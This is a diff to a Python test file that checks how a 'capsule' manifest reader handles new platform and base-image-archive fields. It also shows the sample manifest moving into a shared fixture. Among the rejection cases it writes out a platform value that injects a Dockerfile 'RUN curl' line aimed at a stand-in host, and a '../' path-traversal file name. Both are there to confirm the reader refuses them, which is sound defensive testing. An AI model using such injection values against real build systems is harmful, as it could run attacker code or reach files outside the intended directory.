@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 from pathlib import Path
 
@@ -11,67 +12,10 @@ from capsule import manifest
 from capsule.errors import ManifestError
 from capsule.model import (
     FORMAT_VERSION,
-    Determinism,
-    FileEntry,
-    Lock,
-    Manifest,
-    OutputEntry,
-    Pin,
-    Plan,
-    Step,
-    StepRun,
+    ImageArchive,
 )
 
-from conftest import make_environment
-
-
-def sample() -> Manifest:
-    """A small but complete manifest."""
-    return Manifest(
-        format=FORMAT_VERSION,
-        capsule_version="0.1.0",
-        name="demo",
-        plan=Plan(
-            title="Démo",
-            steps=(Step(name="a", kind="script", path="a.py"),),
-            data=("data/**",),
-            outputs=("out/**",),
-            exclude=(),
-        ),
-        determinism=Determinism(env=(("TZ", "UTC"),), source_date_epoch_from="default"),
-        environment=make_environment(env_vars=(("PATH", "/bin"),)),
-        lock=Lock(
-            python_version="3.11.7",
-            imported_modules=("six",),
-            tool="pip-tools 7",
-            pins=(
-                Pin(
-                    name="six",
-                    version="1.16.0",
-                    source="index",
-                    wheel="six.whl",
-                    wheel_sha256="ab",
-                    imported=True,
-                ),
-            ),
-        ),
-        base_image="python:3.11.7-slim-bookworm",
-        files=(FileEntry(path="a.py", sha256="00", size=1, role="code"),),
-        outputs=(OutputEntry(path="out/x.txt", sha256="11", size=2, step="a", on_disk="missing"),),
-        steps=(
-            StepRun(
-                name="a",
-                argv=("python", "a.py"),
-                exit_code=0,
-                started_at="t0",
-                duration_s=1.5,
-                log_stdout="logs/01-a.stdout",
-                log_stderr="logs/01-a.stderr",
-                wrote=("out/x.txt",),
-            ),
-        ),
-        capsule_files=(FileEntry(path="run.sh", sha256="22", size=3, role="other"),),
-    )
+from conftest import sample_manifest as sample
 
 
 def test_round_trip_and_identity(tmp_path: Path) -> None:
@@ -111,6 +55,15 @@ def _tampered(tmp_path: Path, change: dict[str, object]) -> Path:
             "must be of type int",
         ),
         ({"files": [{"path": "a", "sha256": "0", "size": 1, "role": "secret"}]}, "not one of"),
+        ({"platform": "linux/amd64\nRUN curl evil.invalid"}, "does not know"),
+        ({"platform": "windows/amd64"}, "does not know"),
+        ({"platform": "linux/amd64/"}, "does not know"),
+        ({"platform": 64}, "must be of type str"),
+        (
+            {"base_image_archive": {"file": "../base-image.tar", "image_id": "sha256:" + "0" * 64}},
+            "not inside the capsule",
+        ),
+        ({"base_image_archive": {"file": "base-image.tar"}}, "lacks 'image_id'"),
     ],
 )
 def test_reader_refuses(tmp_path: Path, change: dict[str, object], message: str) -> None:
@@ -125,3 +78,21 @@ def test_not_a_capsule(tmp_path: Path) -> None:
     (tmp_path / "capsule.json").write_text("{oops")
     with pytest.raises(ManifestError, match="not valid JSON"):
         manifest.read(tmp_path)
+
+
+def test_platform_and_embedded_image_round_trip(tmp_path: Path) -> None:
+    original = dataclasses.replace(
+        sample(),
+        platform="linux/arm64",
+        base_image_archive=ImageArchive(file="base-image.tar", image_id="sha256:" + "a" * 64),
+    )
+    manifest.write(original, tmp_path)
+    assert manifest.read(tmp_path) == original
+
+
+def test_an_older_capsule_without_platform_reads_as_unpinned(tmp_path: Path) -> None:
+    data = manifest.to_dict(sample())
+    del data["platform"], data["base_image_archive"]
+    (tmp_path / "capsule.json").write_text(json.dumps(data))
+    loaded = manifest.read(tmp_path)
+    assert loaded.platform == "" and loaded.base_image_archive is None
